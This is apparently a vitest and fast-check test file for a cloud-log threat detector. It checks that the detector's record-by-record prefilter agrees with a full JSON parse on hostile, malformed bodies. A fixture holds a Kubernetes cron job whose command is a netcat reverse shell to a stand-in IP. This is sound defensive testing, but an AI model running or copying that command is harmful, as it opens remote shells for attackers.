import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { recordSpans } from '../../src/decode/record-spans.js';
import { MAX_BRACKET_INDEX_BYTES } from '../../src/decode/structure/bracket-index.js';
import type { RuleSet } from '../../src/rules/rule-set.js';
import { aksRecord, auditEvent, cronJobBody, podSpec } from '../helpers/audit.js';
import { activityRecord, bundledRuleSet, FIXED_CLOCK, processBatch } from '../helpers/detector.js';

/**
 * Bodies an attacker writes to make the prefilter's record-by-record reading differ from a full
 * parse: each is read with the prefilter on and off, and the findings must be the same.
 */

const WRITE = 'MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/BATCH/CRONJOBS/WRITE';
const READ = 'MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/READ';

const write = (id = 'w'): Record<string, unknown> => activityRecord(WRITE, { correlationId: id });
const read = (i: number): Record<string, unknown> => activityRecord(READ, { correlationId: `r${i}` });
/** `count` reads with a write at `at`. */
const reads = (count: number, at: number): Record<string, unknown>[] =>
  Array.from({ length: count }, (_, i) => (i === at ? write() : read(i)));
const envelope = (records: unknown[]): string => JSON.stringify({ records });

const aksWrite = aksRecord(
  auditEvent({
    requestObject: cronJobBody(
      podSpec({ image: 'alpine:3.20', command: ['sh', '-c', 'nc -e /bin/sh 203.0.113.7 4444'] }),
    ),
  }),
);
const aksLease = aksRecord(auditEvent({ verb: 'update', resource: 'leases' }));

describe('record-by-record reading against a hostile body', () => {
  let ruleSet: RuleSet;
  beforeAll(async () => {
    ruleSet = await bundledRuleSet();
  });
  const run = (body: unknown, prefilter: boolean, anyShape = false) =>
    processBatch([{ body, origin: { event: 0 }, ...(anyShape ? { anyShape } : {}) }], {
      ruleSet,
      clock: FIXED_CLOCK,
      detectorVersion: 'test',
      prefilter,
    });
  /** The body read with the prefilter on and off (as an Event Hub body and as a file line): the same findings. */
  const same = (body: Buffer | string) => {
    const bytes = typeof body === 'string' ? Buffer.from(body) : body;
    const on = run(bytes, true);
    const off = run(bytes, false);
    expect(on.findings).toEqual(off.findings);
    expect(on.suppressed).toEqual(off.suppressed);
    expect(run(bytes, true, true).findings).toEqual(off.findings);
    return { on, off };
  };
  const ids = (result: ReturnType<typeof run>) => result.findings.map((f) => f.SourceRecordId);
  /** Every record is counted once: under its source, as unknown, or as left unparsed by the prefilter. */
  const counted = (result: ReturnType<typeof run>) => {
    const { records, bySource, prefilterUnparsedRecords } = result.report;
    const sources = Object.values(bySource).reduce((sum, n) => sum + n, 0);
    expect(records).toBe(sources + prefilterUnparsedRecords);
  };

  it('reads an envelope whose key is spelt with an escape record by record', () => {
    const body = envelope(reads(40, 33)).replace('{"records":', '{"rec\\u006frds":');
    const { on, off } = same(body);
    expect(ids(on)).toEqual(['w']);
    expect(on.report).toMatchObject({ records: 40, prefilterUnparsedRecords: 39 });
    expect(off.report).toMatchObject({ records: 40, prefilterUnparsedRecords: 0 });
    counted(on);
  });

  it('takes the last of duplicate records keys, however spelt, as JSON.parse does', () => {
    const [first, last] = [envelope(reads(40, 1)).slice(1, -1), envelope(reads(40, -1)).slice(1, -1)];
    for (const [body, found] of [
      [`{${first},${last}}`, []],
      [`{${first},${last.replace('"records"', '"rec\\u006frds"')}}`, []],
      [`{${last},${first.replace('"records"', '"r\\u0065cords"')}}`, ['w']],
    ] as const) {
      const { on } = same(body);
      expect(ids(on)).toEqual(found);
      expect(on.report).toMatchObject({ records: 40, prefilterUnparsedRecords: 0 });
    }
  });

  it('reads a records that is no array of objects whole, its other elements named', () => {
    const notArray = same(JSON.stringify({ records: { 0: write() } }));
    expect(notArray.on.findings).toEqual([]);
    expect(notArray.on.report.problems).toEqual([
      { where: 'event 0', message: 'body.records: expected an array, got object' },
    ]);
    const mixed = same(envelope([...reads(40, 35), 1, null, [write('nested')], 'x']));
    expect(ids(mixed.on)).toEqual(['w']);
    expect(mixed.on.report).toMatchObject({ records: 40, prefilterUnparsedRecords: 0 });
    expect(mixed.on.report.problems.map((p) => p.message)).toEqual([
      'body.records[40]: number is not a record',
      'body.records[41]: null is not a record',
      'body.records[42]: array is not a record',
      'body.records[43]: string is not a record',
    ]);
  });

  it('leaves no record to the envelope around it: a rule literal there lets no record through', () => {
    const body = JSON.stringify({ note: WRITE, records: reads(40, -1), tail: { operationName: WRITE } });
    const { on } = same(body);
    expect(on.findings).toEqual([]);
    expect(on.report).toMatchObject({ records: 40, prefilterUnparsedRecords: 40 });
  });

  it('finds no match made of literals from two records', () => {
    // BATCH in one record, /CRONJOBS/WRITE in the next: each group holds both, no record does.
    const records = Array.from({ length: 40 }, (_, i) =>
      activityRecord(
        i % 2 === 0
          ? 'MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/BATCH/CRONJOBS/READ'
          : 'MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/CRONJOBS/WRITE',
      ),
    );
    const { on } = same(envelope(records));
    expect(on.findings).toEqual([]);
    expect(on.report.records).toBe(40);
    counted(on);
  });

  it('reads a body after a byte-order mark, and one in UTF-16, alike on and off', () => {
    const text = envelope(reads(40, 20));
    const bom = same(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]));
    expect(ids(bom.on)).toEqual(['w']);
    expect(bom.on.report).toMatchObject({ records: 40, prefilterUnparsedRecords: 39 });
    for (const utf16 of [
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]),
      Buffer.from(text, 'utf16le'),
    ]) {
      const { on } = same(utf16);
      expect(on.report.prefilterUnparsedRecords).toBe(0);
    }
  });

  it('reads invalid UTF-8 inside a record and at the edges of its span as a full parse does', () => {
    const text = envelope(reads(40, 20));
    const write = text.indexOf('"correlationId":"w"');
    /** The body with `bytes` put in `offset` bytes after the first `needle` from `from`. */
    const around = (needle: string, offset: number, bytes: number[], from = write): Buffer => {
      const at = text.indexOf(needle, from) + offset;
      return Buffer.concat([Buffer.from(text.slice(0, at)), Buffer.from(bytes), Buffer.from(text.slice(at))]);
    };
    const cases = [
      // A lone lead byte just before a record and just after one: the body breaks there.
      around(',{"time"', 1, [0xc3]),
      around('},{"time"', 1, [0xff]),
      // A cut sequence inside a record before the write, and inside the write's own string.
      around('"r3"', 2, [0xf0, 0x9f], 0),
      around('"callerIpAddress":"', 19, [0xe2, 0x82], text.lastIndexOf('{"time"', write)),
    ];
    for (const body of cases) {
      const { on } = same(body);
      expect(ids(on)).toEqual(['w']);
      counted(on);
    }
  });

  it('reads a backslash outside strings and an unterminated string as the byte walk does', () => {
    const text = envelope(reads(40, 20));
    const afterWrite = text.indexOf('},{', text.indexOf('"correlationId":"w"'));
    // Escaping the brace of the next record: the envelope breaks after the write.
    const escaped = same(`${text.slice(0, afterWrite + 2)}\\${text.slice(afterWrite + 2)}`);
    expect(ids(escaped.on)).toEqual(['w']);
    expect(escaped.on.report.problems.map((p) => p.message)).toEqual([
      `not JSON from byte ${afterWrite + 2} (after 21 whole record(s)): the rest is not read`,
    ]);
    // A record whose string never ends: the records before it are read.
    const open = same(`${text.slice(0, afterWrite + 2)}{"a":"${'x'.repeat(100)}]}`);
    expect(ids(open.on)).toEqual(['w']);
    // A trailing comma: the records before it are read.
    const trailing = same(text.replace(']}', ',]}'));
    expect(ids(trailing.on)).toEqual(['w']);
    expect(trailing.on.report.problems.map((p) => p.message)).toEqual([
      `not JSON from byte ${text.length - 1} (after 40 whole record(s)): the rest is not read`,
    ]);
    // A backslash between a record's members: only that record is lost.
    const inside = same(text.replace('"correlationId":"r30"', '"correlationId":"r30"\\'));
    expect(ids(inside.on)).toEqual(['w']);
    counted(inside.on);
  });

  it('finds each record after deep nesting and long backslash runs across every 64-byte block place', () => {
    // The deep record may match too (it holds the write's literals), so both reads parse it.
    const nested = `{"operationName":"${WRITE}","a":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
    const deep = same(envelope(reads(39, 38)).replace('[{', `[${nested},{`));
    expect(ids(deep.on)).toEqual(['w']);
    expect(deep.on.report).toMatchObject({ records: 40, prefilterUnparsedRecords: 38 });
    for (let shift = 0; shift < 64; shift += 7)
      for (const run of [63, 64, 65, 127, 128, 129]) {
        // Odd runs of backslashes before a quote that stays in its string, even runs before one that ends it.
        const trap = {
          pad: 'p'.repeat(shift),
          s: `${'\\'.repeat(run)}"}],{"records":[`,
          t: '\\'.repeat(run),
        };
        const records = [trap, ...reads(39, 36)];
        const body = Buffer.from(envelope(records));
        expect(recordSpans(body)).toEqual(recordSpans(body, () => undefined));
        const { on } = same(body);
        expect(ids(on)).toEqual(['w']);
        expect(on.report).toMatchObject({ records: 40, prefilterUnparsedRecords: 39 });
      }
  });

  it('keeps `__proto__` and `constructor` keys as data, in the envelope and in records', () => {
    const hidden = same(`{"__proto__":${envelope([write()])}}`);
    expect(hidden.on.findings).toEqual([]);
    const records = reads(40, 10).map((r, i) => (i === 10 ? { ...r, constructor: { a: 1 } } : r));
    const body = `{"__proto__":{"records":[]},"constructor":1,${envelope(records).slice(1, -1)},"toString":2}`;
    const { on } = same(body.replace('{"time"', '{"__proto__":{"operationName":"x"},"time"'));
    expect(ids(on)).toEqual(['w']);
    expect(on.report).toMatchObject({ records: 40, prefilterUnparsedRecords: 39 });
  });

  it('reads thousands of empty records, each counted once', () => {
    const records = Array.from({ length: 10_000 }, (_, i) => (i === 5_000 ? write() : {}));
    const { on, off } = same(envelope(records));
    expect(ids(on)).toEqual(['w']);
    expect(on.report).toMatchObject({ records: 10_000, prefilterUnparsedRecords: 9_999 });
    expect(off.report.bySource.unknown).toBe(9_999);
    counted(on);
    counted(off);
  });

  it('decides AKS records with their embedded events across group boundaries', () => {
    const objectLog = aksRecord(auditEvent({ verb: 'get' }), { parsed: true });
    const records = Array.from({ length: 70 }, (_, i) =>
      i === 31
        ? aksWrite
        : i === 32
          ? aksRecord(aksWrite['properties'] as never, { parsed: true })
          : i % 3 === 0
            ? objectLog
            : aksLease,
    );
    const { on } = same(envelope(records));
    expect(on.findings.length).toBeGreaterThan(0);
    counted(on);
  });

  it('finds the same records in a body at the bracket index bound as one byte over it (byte walk)', () => {
    const records = reads(40, 37);
    const bare = Buffer.byteLength(JSON.stringify({ pad: '', records }));
    for (const size of [MAX_BRACKET_INDEX_BYTES - 1, MAX_BRACKET_INDEX_BYTES, MAX_BRACKET_INDEX_BYTES + 1]) {
      const body = Buffer.from(JSON.stringify({ pad: '['.repeat(size - bare), records }));
      expect(body.length).toBe(size);
      const { on } = same(body);
      expect(ids(on)).toEqual(['w']);
      expect(on.report).toMatchObject({ records: 40, prefilterUnparsedRecords: 39 });
    }
  }, 60_000);

  it('names the element a record was in when the envelope is read record by record after a failed parse', () => {
    const text = envelope([read(0), { ...aksLease, properties: undefined }, write()]);
    const spoilt = text.replace('"correlationId":"r0"', '"correlationId":r0');
    const off = run(Buffer.from(spoilt), false);
    expect(ids(off)).toEqual(['w']);
    expect(off.report.problems.slice(1)).toEqual([
      { where: 'event 0', message: expect.stringMatching(/^body\.records\[0\]: not JSON/) },
      { where: 'event 0, record 1', message: 'kube-audit record has no properties object' },
    ]);
    expect(run(Buffer.from(spoilt), true).findings).toEqual(off.findings);
  });

  it('never throws, and finds what a full parse finds, on bytes spoilt anywhere', () => {
    const text = envelope([...reads(36, 34), aksWrite, aksLease]);
    const hostile = fc.constantFrom(
      '"',
      '\\',
      '{',
      '}',
      '[',
      ']',
      ',',
      ':',
      '\\u0072',
      '\ufeff',
      '\u0000',
      '"records":[',
      '"log":"',
    );
    fc.assert(
      fc.property(
        fc.array(
          fc.record({ at: fc.double({ min: 0, max: 1, noNaN: true }), insert: hostile, cut: fc.boolean() }),
          {
            minLength: 1,
            maxLength: 6,
          },
        ),
        (edits) => {
          let body = Buffer.from(text);
          for (const { at, insert, cut } of edits) {
            const place = Math.floor(at * body.length);
            body = Buffer.concat([
              body.subarray(0, place),
              Buffer.from(cut ? '' : insert),
              body.subarray(place + (cut ? 1 : 0)),
            ]);
          }
          const { on } = same(body);
          counted(on);
        },
      ),
      { numRuns: 200 },
    );
  });
});
